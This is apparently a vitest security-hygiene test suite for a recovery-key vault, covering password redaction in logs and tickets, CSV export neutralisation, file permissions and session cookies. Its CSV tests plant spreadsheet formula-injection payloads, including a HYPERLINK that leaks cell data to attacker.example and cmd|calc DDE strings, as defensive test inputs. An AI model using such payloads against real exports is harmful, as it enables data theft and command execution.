import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { buildApp } from '../src/app.js';
import { openDatabase } from '../src/db/database.js';
import { containsRecoveryPasswordLike, redactRecoveryPasswordLike } from '../src/domain/recovery-password.js';
import { parseRevealReason } from '../src/domain/reason-codes.js';
import { loggedUrl } from '../src/http/request-log.js';
import { csvText, neutraliseCell } from '../src/lib/csv.js';
import { createBackup, restoreBackup } from '../src/modules/backup/backup.js';
import { loadConfig } from '../src/config.js';
import { systemActor } from '../src/modules/authz/authz.js';
import { REPORT_KINDS } from '../src/modules/reports/reports.service.js';
import { createTestApp, sessionFrom, type Session, type TestApp } from './helpers/app.js';
import { ENGINE } from './helpers/engine.js';
import { auditEvents, logCapture } from './helpers/http.js';
import { bytes, csvOf, randomKeyId, randomRecoveryPassword } from './helpers/keys.js';
import { owner as cliOwner } from './helpers/vault.js';
import { SimMachine, TestAgent, injectTransport } from './agent/test-agent.js';

/**
 * Hygiene of what the product writes down: request logs, the audit log's ticket and note, every
 * CSV, the audit export, the database files and the session cookie.
 */

const API = '/api/v1';

// ------------------------------------------------------------------ the forms of a pasted password
const FULL_WIDTH = (s: string) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d)));
const ARABIC_INDIC = (s: string) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0x0660 + Number(d)));
const SEPARATORS = ['', ' ', '  ', '-', ' - ', '.', '/', '_', '+', '\t', '\u00a0', '\u3000', '\u2010', '\uff0d', ',', ':', '|', '\u200b'];

/** The password's 8 groups, joined by `sep`, in `digits` form. */
const written = (password: string, sep: string, digits: (s: string) => string = (s) => s) => digits(password.split('-').join(sep));
const groupsOf = (password: string) => password.split('-');

/** Fails when `text` holds any 6-digit group of the password (in ASCII or full-width digits). */
function expectNoGroup(text: string, password: string, label = '') {
  for (const g of groupsOf(password)) {
    expect(text.includes(g), `${label}: group ${g} in clear`).toBe(false);
    expect(text.includes(FULL_WIDTH(g)), `${label}: full-width group in clear`).toBe(false);
  }
}

const arbPassword = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { minLength: 8, maxLength: 8 })
  .map((vs) => vs.map((v) => String(v * 11).padStart(6, '0')).join('-'));
const arbForm = fc.record({
  seps: fc.array(fc.constantFrom(...SEPARATORS), { minLength: 7, maxLength: 7 }),
  digits: fc.constantFrom<(s: string) => string>((s) => s, FULL_WIDTH, ARABIC_INDIC),
  encoding: fc.constantFrom<(s: string) => string>(
    (s) => s,
    (s) => encodeURIComponent(s),
    (s) => encodeURIComponent(encodeURIComponent(s)),
    (s) => new URLSearchParams({ q: s }).toString().slice(2),
    (s) => s.replace(/-/g, '%2D').replace(/\./g, '%2E'),
  ),
  before: fc.constantFrom('', 'read out: ', 'INC-4711 ', 'C: ', '('),
  after: fc.constantFrom('', ' thanks', ')', '.', ' 2024-01-31'),
});
function compose(password: string, f: { seps: string[]; digits: (s: string) => string; encoding: (s: string) => string; before: string; after: string }) {
  const g = groupsOf(password);
  let s = g[0]!;
  for (let i = 1; i < 8; i++) s += f.seps[i - 1]! + g[i]!;
  return f.before + f.encoding(f.digits(s)) + f.after;
}

describe('the recovery-password detector (ticket, note, logs)', () => {
  it('finds a password whatever its separators, digits and URL encoding', () => {
    fc.assert(
      fc.property(arbPassword, arbForm, (password, form) => {
        const text = compose(password, form);
        expect(containsRecoveryPasswordLike(text)).toBe(true);
        expectNoGroup(redactRecoveryPasswordLike(text), password, JSON.stringify(text));
      }),
      { numRuns: 500 },
    );
  });

  it('the ticket guard refuses every such form', () => {
    fc.assert(
      fc.property(arbPassword, arbForm, (password, form) => {
        const ticket = compose(password, form);
        const r = parseRevealReason({ reason: 'other', ticket });
        // Tickets with tabs or zero-width characters are refused as unprintable; either way, refused.
        expect(r.ok).toBe(false);
      }),
      { numRuns: 300 },
    );
  });

  it('a password next to a key ID (letters between digits) is still found', () => {
    const pw = randomRecoveryPassword();
    expect(containsRecoveryPasswordLike(`6F2A1B3C-4D5E-6F70-8192-A3B4C5D6E7F8 ${pw}`)).toBe(true);
    expect(containsRecoveryPasswordLike(`${pw} 6F2A1B3C-4D5E-6F70-8192-A3B4C5D6E7F8`)).toBe(true);
    // A letter O typed for a zero does not hide it either.
    expect(containsRecoveryPasswordLike('14O217.314941.3O6218.224763.175043.218350.634447.665962')).toBe(true);
  });

  it.each([
    'INC-4711',
    'Ticket #123 – Ümlaut ok',
    'CHG0031337 approved by J. Doe on 2024-01-31 10:15',
    '6F2A1B3C-4D5E-6F70-8192-A3B4C5D6E7F8',
    '12345678-1234-1234-1234-123456789012',
    'call +1 (555) 010-2030 ext. 44',
    'serial 5CG1234XYZ, asset 000123, room 4.12',
    'Devices 1, 2, 3 and 4 were re-imaged',
  ])('leaves ordinary text alone: %j', (text) => {
    expect(containsRecoveryPasswordLike(text)).toBe(false);
    expect(parseRevealReason({ reason: 'other', ticket: text }).ok).toBe(true);
  });

  it('is linear: 1 MB of adversarial text in well under a second', () => {
    for (const unit of ['1.', '123456 ', '1a', '1 . ', '%2D1']) {
      const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
      const t0 = performance.now();
      containsRecoveryPasswordLike(text);
      expect(performance.now() - t0, unit).toBeLessThan(1000);
    }
  });
});

describe('request log lines', () => {
  it('carry the route pattern and the query parameter names, values only for paging and format', () => {
    const pw = randomRecoveryPassword();
    expect(loggedUrl({ url: `/api/v1/keys?q=${pw}&limit=20`, routeOptions: { url: '/api/v1/keys' } })).toBe('/api/v1/keys?q&limit=20');
    expect(loggedUrl({ url: `/api/v1/keys/${pw}`, routeOptions: { url: '/api/v1/keys/:id' } })).toBe('/api/v1/keys/:id');
    expect(loggedUrl({ url: `/api/v1/audit/export?format=csv&action=auth.login`, routeOptions: { url: '/api/v1/audit/export' } })).toBe(
      '/api/v1/audit/export?format=csv&action=auth.login',
    );
    // A parameter that keeps its value still never shows a password or a token.
    expect(loggedUrl({ url: `/api/v1/audit?limit=${pw.replace(/-/g, '')}`, routeOptions: { url: '/api/v1/audit' } })).toBe('/api/v1/audit?limit');
    // A path that matched no route is masked; a password as a parameter name is not kept either.
    const unmatched = loggedUrl({ url: `/nothing/${written(pw, '.')}/kw_${'a'.repeat(30)}?${encodeURIComponent(pw)}=1` });
    expectNoGroup(unmatched, pw, 'unmatched');
    expect(unmatched).not.toContain('a'.repeat(30));
  });
});

describe(`hygiene over HTTP on ${ENGINE}`, () => {
  let t: TestApp;
  let ownerS: Session;
  let techS: Session;
  let contoso: { id: string; name: string };
  const key = { keyId: randomKeyId(), password: randomRecoveryPassword(), device: 'FAKE-HYG-01' };

  beforeAll(async () => {
    t = await createTestApp();
    contoso = await t.container.clients.create(cliOwner, { name: 'Contoso' });
    const r = await t.container.imports.importFile(cliOwner, 'Contoso', { fileName: 'hyg.csv', bytes: bytes(csvOf([key])) });
    expect(r.imported).toBe(1);
    await t.addUser('owner', 'all', 'hyg.owner@example.test');
    ownerS = await t.signIn('hyg.owner@example.test');
    await t.addUser('technician', 'all', 'hyg.tech@example.test');
    techS = await t.signIn('hyg.tech@example.test');
  });
  afterAll(async () => {
    await t?.close();
  });

  // ------------------------------------------------------------------ logs
  it('a password typed into Find a key (+, %2D, ., full-width, …) never reaches the request log', async () => {
    const log = logCapture();
    const logged = await buildApp(t.container, { logger: { level: 'info', stream: log.stream } });
    try {
      const pw = randomRecoveryPassword();
      const forms = [
        written(pw, '+'),
        written(pw, '%2D'),
        written(pw, '%2d'),
        written(pw, '.'),
        written(pw, '/'),
        written(pw, '_'),
        written(pw, '%20'),
        written(pw, '%2520'),
        written(pw, ''),
        encodeURIComponent(written(pw, '-', FULL_WIDTH)),
        encodeURIComponent(written(pw, ' ', FULL_WIDTH)),
        encodeURIComponent(written(pw, '\u3000')),
      ];
      for (const q of forms) {
        const r = await logged.inject({ method: 'GET', url: `${API}/keys?q=${q}`, headers: techS.headers });
        expect(r.statusCode, q).toBeLessThan(500);
        expectNoGroup(r.body, pw, `response to ${q}`);
        // The search by key ID and the reveal carry the query in the path.
        await logged.inject({ method: 'GET', url: `${API}/keys/${q}`, headers: techS.headers });
        await logged.inject({ method: 'GET', url: `/no/such/page/${q}?x=${q}`, headers: techS.headers });
      }
      const text = log.text();
      // One line per request, when answered: it names the request (masked) as well as the status.
      expect(text).toContain('request completed');
      expect(text).toMatch(/"req":\{"method":"GET","url":"\/no\/such\/page\/\[redacted-recovery-password\]\?x"/);
      expectNoGroup(text, pw, 'log');
      expectNoGroup(decodeURIComponent(text.replace(/%(?![0-9A-Fa-f]{2})/g, '%25')), pw, 'decoded log');
      const urls = log
        .lines()
        .map((l) => (l.req as { url?: string } | undefined)?.url)
        .filter(Boolean);
      expect(urls).toContain(`${API}/keys?q`);
    } finally {
      await logged.close();
    }
  });

  // ------------------------------------------------------------------ ticket and note
  it('a reveal whose ticket or note holds a password in any form is refused (400) and nothing of it is audited', async () => {
    const u = await t.addUser('technician', 'all', 'hyg.note@example.test');
    const s = await t.signIn(u.email);
    const pw = randomRecoveryPassword();
    const forms = [
      written(pw, '.'),
      written(pw, '/'),
      written(pw, '_'),
      written(pw, '+'),
      written(pw, ' '),
      written(pw, ''),
      written(pw, '%2D'),
      written(pw, '-', FULL_WIDTH),
      written(pw, '\uff0d', FULL_WIDTH),
      written(pw, ' ', ARABIC_INDIC),
    ];
    for (const f of forms) {
      for (const body of [
        { reason: 'other', ticket: `T-1 ${f}` },
        { reason: 'lost-pin', ticket: 'T-2', note: `the user read out ${f} on the phone` },
      ]) {
        const r = await t.app.inject({ method: 'POST', url: `${API}/keys/${key.keyId}/reveal`, headers: s.headers, payload: body });
        expect(r.statusCode, JSON.stringify(body)).toBe(400);
        expectNoGroup(r.body, pw, 'response');
      }
    }
    const events = JSON.stringify(await auditEvents(t, { actorId: u.id }));
    expectNoGroup(events, pw, 'audit');
    expect(events.replace(/[^0-9]/g, '')).not.toContain(pw.replace(/-/g, ''));
    // An ordinary ticket and note still work.
    const ok = await t.app.inject({
      method: 'POST',
      url: `${API}/keys/${key.keyId}/reveal`,
      headers: s.headers,
      payload: { reason: 'other', ticket: 'INC-4711', note: 'Called back on +1 555 010 2030 at 10:15.' },
    });
    expect(ok.statusCode).toBe(200);
  });

  // ------------------------------------------------------------------ CSV
  it('=HYPERLINK planted through a failed sign-in (User-Agent, e-mail) is neutralised in the audit CSV', async () => {
    const ua = '=HYPERLINK("https://attacker.example/?leak="&A2,"Details")';
    const email = '=1+cmd|calc!A1@x.example';
    const r = await t.app.inject({
      method: 'POST',
      url: `${API}/auth/login`,
      headers: { 'user-agent': ua },
      payload: { email, password: 'wrongwrongwrong' },
    });
    expect(r.statusCode).toBe(401);
    await t.app.inject({
      method: 'POST',
      url: `${API}/auth/login`,
      headers: { 'user-agent': '@SUM(1+1)*cmd|calc!A0' },
      payload: { email: '+x@x.example', password: 'nope-nope' },
    });
    await t.app.inject({
      method: 'POST',
      url: `${API}/auth/login`,
      headers: { 'user-agent': '-2+3+cmd|calc!A0' },
      payload: { email: '\tx@x.example', password: 'nope-nope' },
    });

    const csv = await t.app.inject({ method: 'GET', url: `${API}/audit/export?format=csv&action=auth.login`, headers: ownerS.headers });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const rows = parseCsv(csv.body, { columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThanOrEqual(3);
    expect(rows.some((x) => x.userAgent === `'${ua}`)).toBe(true);
    expect(csv.body).toContain('HYPERLINK');
    for (const row of rows) for (const [col, v] of Object.entries(row)) expect(v, `${col} = ${v}`).not.toMatch(/^[=+\-@\t\r]/);
    // The JSON-lines export keeps the values as they were (it is data, not a spreadsheet).
    const jsonl = await t.app.inject({ method: 'GET', url: `${API}/audit/export?format=jsonl&action=auth.login`, headers: ownerS.headers });
    expect(
      jsonl.body
        .split('\n')
        .filter(Boolean)
        .some((l) => JSON.parse(l).userAgent === ua),
    ).toBe(true);
  });

  it('a hostname and serial planted by an agent are neutralised in every report CSV and the console export', async () => {
    const tok = await t.app.inject({ method: 'POST', url: `${API}/agent/enrollment-tokens`, headers: ownerS.headers, payload: { clientId: contoso.id } });
    expect(tok.statusCode).toBe(201);
    const host = '=HYPERLINK("https://attacker.example/x","FAB-LT-0001")';
    const serial = '@SUM(1+1)*cmd|calc!A0';
    const agent = new TestAgent(injectTransport(t.app), new SimMachine(host, serial));
    expect((await agent.enroll(tok.json().token)).status).toBe(200);
    expect((await agent.run()).exitCode).toBe(0);
    // A reveal of the planted device's key, with a formula as its ticket, for the recovery audit.
    const protector = agent.machine.recoveryPasswords('C:')[0]!;
    const rv = await t.app.inject({
      method: 'POST',
      url: `${API}/keys/${protector.id}/reveal`,
      headers: techS.headers,
      payload: { reason: 'other', ticket: '=1+1' },
    });
    expect(rv.statusCode, rv.body).toBe(200);

    let seen = 0;
    for (const report of REPORT_KINDS) {
      const r = await t.app.inject({ method: 'GET', url: `${API}/reports/${report}?format=csv`, headers: ownerS.headers });
      expect(r.statusCode, report).toBe(200);
      const rows = parseCsv(r.body, { relax_column_count: true }) as string[][];
      for (const row of rows) for (const v of row) expect(v, `${report}: ${v}`).not.toMatch(/^[=+\-@\t\r]/);
      if (r.body.includes('HYPERLINK')) {
        seen++;
        expect(rows.flat()).toContain(`'${host}`);
      }
    }
    expect(seen, 'the planted device appears in at least the devices report').toBeGreaterThanOrEqual(1);

    const exp = await t.app.inject({ method: 'GET', url: `${API}/clients/${contoso.id}/devices/export`, headers: ownerS.headers });
    expect(exp.statusCode).toBe(200);
    const rows = parseCsv(exp.body, { columns: true }) as Record<string, string>[];
    expect(rows.some((x) => x.device === `'${host}` && x.serial === `'${serial}`)).toBe(true);
  });

  it('the scheduled report e-mail attaches the same neutralised CSV', async () => {
    const rendered = await t.container.reports.prepare(cliOwner, { report: 'devices', clientId: contoso.id, format: 'csv' });
    const chunks: Buffer[] = [];
    const { PassThrough } = await import('node:stream');
    const out = new PassThrough();
    out.on('data', (b: Buffer) => chunks.push(b));
    await rendered.write(out);
    const body = Buffer.concat(chunks).toString('utf8');
    expect(body).toContain(`'=HYPERLINK`);
    for (const v of (parseCsv(body, { relax_column_count: true }) as string[][]).flat()) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the one CSV writer neutralises = + - @ tab and CR at the start of a cell, and leaves numbers alone', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('+1')).toBe("'+1");
    expect(neutraliseCell('-1')).toBe("'-1");
    expect(neutraliseCell('@x')).toBe("'@x");
    expect(neutraliseCell('\tx')).toBe("'\tx");
    expect(neutraliseCell('\rx')).toBe("'\rx");
    expect(neutraliseCell('a=1')).toBe('a=1');
    expect(csvText(['a', 'b', 'c'], [[-5, '=x', null]])).toBe("a,b,c\n-5,'=x,\n");
  });

  // ------------------------------------------------------------------ streaming export
  it('the audit export streams: 20,000 events, the first bytes before the last rows are read', async () => {
    const N = 20_000;
    const actor = systemActor('hygiene-bulk');
    const padding = 'p'.repeat(900);
    // Written in bulk, next to the chain (hashes are not what this test reads); the head moves on
    // so later events keep unique sequence numbers.
    const db = t.container.database.db;
    const before = (await db.selectFrom('audit_head').select('seq').where('id', '=', 1).executeTakeFirstOrThrow()).seq;
    const at = new Date().toISOString();
    for (let from = 0; from < N; from += 500) {
      const rows = [];
      for (let i = from; i < Math.min(N, from + 500); i++) {
        rows.push({
          seq: before + 1 + i,
          id: randomUUID(),
          occurred_at: at,
          actor_type: actor.type,
          actor_id: actor.id,
          actor_name: actor.name,
          action: 'audit.verify',
          client_id: null,
          target_type: null,
          target_id: null,
          reason_code: null,
          ticket: null,
          outcome: 'success',
          ip: null,
          user_agent: null,
          details: JSON.stringify({ i, padding }),
          prev_hash: '0'.repeat(64),
          hash: '0'.repeat(64),
        });
      }
      await db.insertInto('audit_events').values(rows).execute();
    }
    await db
      .updateTable('audit_head')
      .set({ seq: before + N })
      .where('id', '=', 1)
      .execute();
    const filter = `from=${encodeURIComponent(new Date(Date.now() - 3600_000).toISOString())}`;

    const served = await buildApp(t.container, { logger: false });
    await served.listen({ port: 0, host: '127.0.0.1' });
    try {
      const { port } = served.server.address() as AddressInfo;
      const marker = `marker-${Date.now()}`;
      const body = await new Promise<string>((resolve, reject) => {
        const req = http.get(
          { host: '127.0.0.1', port, path: `${API}/audit/export?format=csv&${filter}`, headers: { cookie: ownerS.headers.cookie! } },
          (res) => {
            expect(res.statusCode).toBe(200);
            const chunks: Buffer[] = [];
            let first = true;
            res.on('data', (b: Buffer) => {
              chunks.push(b);
              if (!first) return;
              first = false;
              // Hold the reader back, write one more event, then read on: a buffered export
              // (all rows read before the first byte) cannot contain it.
              res.pause();
              t.container.audit.recordNow(actor, { action: 'audit.verify', outcome: 'success', details: { marker } }).then(() => res.resume(), reject);
            });
            res.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
            res.on('error', reject);
          },
        );
        req.on('error', reject);
      });
      const rows = parseCsv(body, { columns: true }) as Record<string, string>[];
      const bulk = rows.filter((r) => r.actorId === actor.id && Number(r.seq) > before && !r.details!.includes('marker'));
      expect(bulk.length).toBe(N);
      expect(
        rows.some((r) => r.details!.includes(marker)),
        'an event written after the first bytes arrived is in the export',
      ).toBe(true);
      const seqs = rows.map((r) => Number(r.seq));
      expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
    } finally {
      await served.close();
    }
  });
});

describe(`files on disk (${ENGINE})`, () => {
  it('a new SQLite database and its -wal and -shm files are 0600 whatever the umask', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'keywarden-mode-'));
    const old = process.umask(0o022);
    try {
      const file = path.join(dir, 'data', 'keywarden.db');
      const db = openDatabase({ engine: 'sqlite', file });
      await db.db.selectNoFrom((eb) => eb.val(1).as('x')).execute();
      db.sqlite!.exec('create table t (x integer); insert into t values (1);');
      for (const f of [file, `${file}-wal`, `${file}-shm`]) {
        expect(fs.existsSync(f), f).toBe(true);
        expect((fs.statSync(f).mode & 0o777).toString(8), f).toBe('600');
      }
      await db.close();
    } finally {
      process.umask(old);
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it.skipIf(ENGINE !== 'sqlite')('a backup archive and a restored database are 0600', async () => {
    const t = await createTestApp();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'keywarden-backup-mode-'));
    const old = process.umask(0o022);
    try {
      const out = path.join(dir, 'vault.kwbackup');
      await createBackup(t.config, t.container.database, out, new Date().toISOString());
      expect((fs.statSync(out).mode & 0o777).toString(8)).toBe('600');
      const target = loadConfig({ KEYWARDEN_DATA_DIR: path.join(dir, 'restored'), KEYWARDEN_MASTER_KEY: t.masterKey });
      const r = await restoreBackup(target, out);
      expect((fs.statSync(String(r.target)).mode & 0o777).toString(8)).toBe('600');
      const reopened = openDatabase(target.database);
      await reopened.db.selectNoFrom((eb) => eb.val(1).as('x')).execute();
      for (const f of [`${r.target}-wal`, `${r.target}-shm`]) if (fs.existsSync(f)) expect((fs.statSync(f).mode & 0o777).toString(8), f).toBe('600');
      await reopened.close();
    } finally {
      process.umask(old);
      fs.rmSync(dir, { recursive: true, force: true });
      await t.close();
    }
  });
});

describe(`the session cookie on ${ENGINE}`, () => {
  it('is kw_session over plain http and __Host-kw_session (Secure, Path=/, no Domain) over https', async () => {
    for (const [env, name] of [
      [{}, 'kw_session'],
      [{ KEYWARDEN_PUBLIC_URL: 'https://vault.example.test' }, '__Host-kw_session'],
    ] as const) {
      const t = await createTestApp(env);
      try {
        await t.addUser('auditor', 'all', 'cookie@example.test');
        const r = await t.app.inject({
          method: 'POST',
          url: `${API}/auth/login`,
          payload: { email: 'cookie@example.test', password: 'correct horse battery staple' },
        });
        expect(r.statusCode).toBe(200);
        const set = [r.headers['set-cookie']].flat().map(String);
        const raw = set.find((h) => h.startsWith(`${name}=`));
        expect(raw, name).toBeDefined();
        const attrs = raw!.split(';').map((a) => a.trim().toLowerCase());
        expect(attrs).toContain('path=/');
        expect(attrs.some((a) => a.startsWith('domain='))).toBe(false);
        expect(attrs.includes('secure')).toBe(name.startsWith('__Host-'));
        const s = sessionFrom(r);
        expect((await t.app.inject({ method: 'GET', url: `${API}/me`, headers: s.headers })).statusCode).toBe(200);
        const status = await t.app.inject({ method: 'GET', url: `${API}/setup`, headers: { cookie: s.headers.cookie! } });
        expect(status.json().signedIn).toBe(true);
      } finally {
        await t.close();
      }
    }
  });
});
